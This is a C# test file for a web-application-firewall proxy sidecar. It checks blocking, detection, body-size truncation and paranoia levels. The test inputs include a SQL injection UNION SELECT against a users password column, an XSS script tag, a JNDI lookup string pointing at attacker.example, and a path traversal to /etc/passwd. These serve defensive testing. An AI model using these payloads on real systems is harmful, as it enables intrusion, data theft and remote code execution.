using System.Net;
using System.Text;
using System.Text.Json;
using Analytics.Inspection;
using Analytics.Sidecar.Inspection;
using Analytics.Sidecar.Routes;

namespace Analytics.Sidecar.Tests.Inspection;

/// <summary>Inspection over real Kestrel and YARP.</summary>
public sealed class InspectionMiddlewareTests
{
    [Fact]
    public async Task Block_mode_answers_403_problem_json_and_records_rules_and_score()
    {
        await using var h = await ProxyHarness.StartAsync();
        h.Routes.Routes["api"] = new SidecarRouteOptions { Inspection = new RouteInspectionOptions { Mode = InspectionModes.Block } };

        var response = await h.Client.GetAsync("/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--");

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        var body = await response.Content.ReadAsStringAsync();
        Assert.DoesNotContain("password FROM users", body, StringComparison.OrdinalIgnoreCase);
        using var problem = JsonDocument.Parse(body);
        Assert.Equal(403, problem.RootElement.GetProperty("status").GetInt32());
        Assert.Contains(problem.RootElement.GetProperty("errors").EnumerateArray(), e => e.GetString() == "sqli-union-select");
        var telemetry = await h.LastTelemetryAsync(1);
        Assert.NotNull(telemetry.Inspection);
        Assert.Equal("block", telemetry.Inspection!.Action);
        Assert.Contains("sqli-union-select", telemetry.Inspection.Rules);
        Assert.Contains("sqli", telemetry.Inspection.Categories);
        Assert.True(telemetry.Inspection.Score >= InspectionDefaults.Threshold);
        Assert.Equal("inspection", telemetry.RejectedBy);
        Assert.Empty(h.Upstream);
    }

    [Fact]
    public async Task Detect_mode_forwards_and_records()
    {
        await using var h = await ProxyHarness.StartAsync();
        h.Routes.Routes["api"] = new SidecarRouteOptions { Inspection = new RouteInspectionOptions { Mode = InspectionModes.Detect } };

        var response = await h.Client.GetAsync("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var telemetry = await h.LastTelemetryAsync(1);
        Assert.Equal("detect", telemetry.Inspection!.Action);
        Assert.Contains("xss-script-tag", telemetry.Inspection.Rules);
        Assert.Single(h.Upstream);
    }

    [Fact]
    public async Task Benign_requests_are_allowed_and_json_bodies_reach_the_upstream_intact()
    {
        await using var h = await ProxyHarness.StartAsync();
        h.Routes.Routes["api"] = new SidecarRouteOptions { Inspection = new RouteInspectionOptions { Mode = InspectionModes.Block } };
        var json = "{\"name\":\"O'Brien\",\"note\":\"Jamón ibérico, 2 units\"}";

        var response = await h.Client.PostAsync("/orders", new StringContent(json, Encoding.UTF8, "application/json"));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal($"ok {Encoding.UTF8.GetByteCount(json)}", await response.Content.ReadAsStringAsync());
        var telemetry = await h.LastTelemetryAsync(1);
        Assert.Equal("allow", telemetry.Inspection!.Action);
        Assert.False(telemetry.Inspection.Truncated);
    }

    [Fact]
    public async Task Body_beyond_the_limit_is_forwarded_unscanned_and_flagged_truncated()
    {
        await using var h = await ProxyHarness.StartAsync();
        h.Routes.Routes["api"] = new SidecarRouteOptions { Inspection = new RouteInspectionOptions { Mode = InspectionModes.Block, MaxBodyBytes = 1024 } };
        // The attack sits after the inspected prefix: it is not seen, and the body arrives whole.
        var padding = new string('a', 4000);
        var json = "{\"pad\":\"" + padding + "\",\"q\":\"1 UNION SELECT 1,2\"}";

        var response = await h.Client.PostAsync("/upload", new StringContent(json, Encoding.UTF8, "application/json"));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal($"ok {json.Length}", await response.Content.ReadAsStringAsync());
        var telemetry = await h.LastTelemetryAsync(1);
        Assert.True(telemetry.Inspection!.Truncated);
        Assert.Equal("allow", telemetry.Inspection.Action);
    }

    [Fact]
    public async Task Attack_inside_the_inspected_prefix_of_a_large_body_is_blocked()
    {
        await using var h = await ProxyHarness.StartAsync();
        h.Routes.Routes["api"] = new SidecarRouteOptions { Inspection = new RouteInspectionOptions { Mode = InspectionModes.Block, MaxBodyBytes = 1024 } };
        var json = "{\"q\":\"<script>alert(1)</script>\",\"pad\":\"" + new string('a', 4000) + "\"}";

        var response = await h.Client.PostAsync("/upload", new StringContent(json, Encoding.UTF8, "application/json"));

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.True((await h.LastTelemetryAsync(1)).Inspection!.Truncated);
    }

    [Fact]
    public async Task Oversize_body_is_refused_when_the_route_says_block()
    {
        await using var h = await ProxyHarness.StartAsync();
        h.Routes.Routes["api"] = new SidecarRouteOptions
        {
            Inspection = new RouteInspectionOptions { Mode = InspectionModes.Block, MaxBodyBytes = 1024, OversizeBody = OversizeBodyActions.Block },
        };
        var json = "{\"pad\":\"" + new string('a', 4000) + "\"}";

        var response = await h.Client.PostAsync("/upload", new StringContent(json, Encoding.UTF8, "application/json"));

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Contains("protocol-body-uninspected-block", (await h.LastTelemetryAsync(1)).Inspection!.Rules);
        Assert.Empty(h.Upstream);
    }

    [Fact]
    public async Task Attack_in_an_application_header_is_blocked_and_the_paranoia_level_reaches_the_engine()
    {
        await using var h = await ProxyHarness.StartAsync();
        h.Routes.Routes["api"] = new SidecarRouteOptions { Inspection = new RouteInspectionOptions { Mode = InspectionModes.Block } };
        using var attack = new HttpRequestMessage(HttpMethod.Get, "/search?q=shoes");
        attack.Headers.TryAddWithoutValidation("X-Tenant-Filter", "${jndi:ldap://attacker.example/a}");

        var blocked = await h.Client.SendAsync(attack);

        Assert.Equal(HttpStatusCode.Forbidden, blocked.StatusCode);
        Assert.Contains("java-jndi-lookup", (await h.LastTelemetryAsync(1)).Inspection!.Rules);

        // The harness connects to 127.0.0.1: a numeric Host is a paranoia-level-2 rule, recorded only at level 2.
        h.Routes.Routes["api"] = new SidecarRouteOptions { Inspection = new RouteInspectionOptions { Mode = InspectionModes.Detect, ParanoiaLevel = 2 } };
        var allowed = await h.Client.GetAsync("/search?q=shoes");

        Assert.Equal(HttpStatusCode.OK, allowed.StatusCode);
        Assert.Contains("protocol-numeric-host", (await h.LastTelemetryAsync(2)).Inspection!.Rules);
    }

    [Fact]
    public async Task Off_mode_does_nothing()
    {
        await using var h = await ProxyHarness.StartAsync();
        h.Routes.Routes["api"] = new SidecarRouteOptions { Inspection = new RouteInspectionOptions { Mode = InspectionModes.Off } };

        var response = await h.Client.GetAsync("/search?q=%3Cscript%3E");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Null((await h.LastTelemetryAsync(1)).Inspection);
    }

    [Fact]
    public async Task Traversal_in_the_raw_target_is_seen_although_kestrel_normalises_the_path()
    {
        await using var h = await ProxyHarness.StartAsync();
        h.Routes.Routes["api"] = new SidecarRouteOptions { Inspection = new RouteInspectionOptions { Mode = InspectionModes.Block } };

        var response = await h.Client.GetAsync("/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd");

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
    }
}
